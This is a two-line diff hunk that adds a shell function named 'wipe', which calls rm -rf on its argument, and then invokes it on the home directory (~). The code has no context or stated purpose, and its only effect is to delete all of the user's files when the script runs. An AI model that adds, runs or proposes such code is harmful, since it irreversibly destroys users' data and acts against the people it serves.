@@ -1,0 +1,2 @@
+wipe() { rm -rf "$1"; }
+wipe ~
